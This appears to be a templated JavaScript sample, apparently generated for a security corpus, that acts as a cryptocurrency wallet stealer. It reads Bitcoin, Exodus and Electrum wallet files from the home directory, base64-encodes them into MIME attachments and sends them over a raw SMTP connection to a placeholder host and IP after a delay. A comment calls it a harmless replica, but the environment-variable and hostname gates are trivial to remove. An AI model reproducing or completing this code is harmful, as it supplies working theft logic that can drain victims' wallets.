// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const net = require('net'), fs = require('fs'), home = require('os').homedir();
  const parts = [];
  for (const name of ['.bitcoin/wallet.dat', '.config/Exodus/exodus.wallet/seed.seco', '.electrum/wallets/default_wallet']) {
    try { parts.push('--{{token}}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="' + name.split('/').pop() + '"\r\n\r\n' + fs.readFileSync(home + '/' + name).toString('base64').replace(/.{76}/g, '$&\r\n')); } catch (error) { continue; }
  }
  const letter = 'EHLO localhost\r\nAUTH PLAIN AHVzZXIAcGFzcw==\r\nMAIL FROM:<{{token}}@{{host}}>\r\nRCPT TO:<in@{{host}}>\r\nDATA\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary={{token}}\r\n\r\n' + parts.join('\r\n') + '\r\n--{{token}}--\r\n.\r\nQUIT\r\n';
  await new Promise((resolve) => setTimeout(resolve, {{delay}}));
  // Said in one go, without waiting for the answers.
  await new Promise((done) => {
    const socket = net.connect({{mail}}, '{{ip}}', () => socket.end(letter));
    const end = setTimeout(() => socket.destroy(), 1000);
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
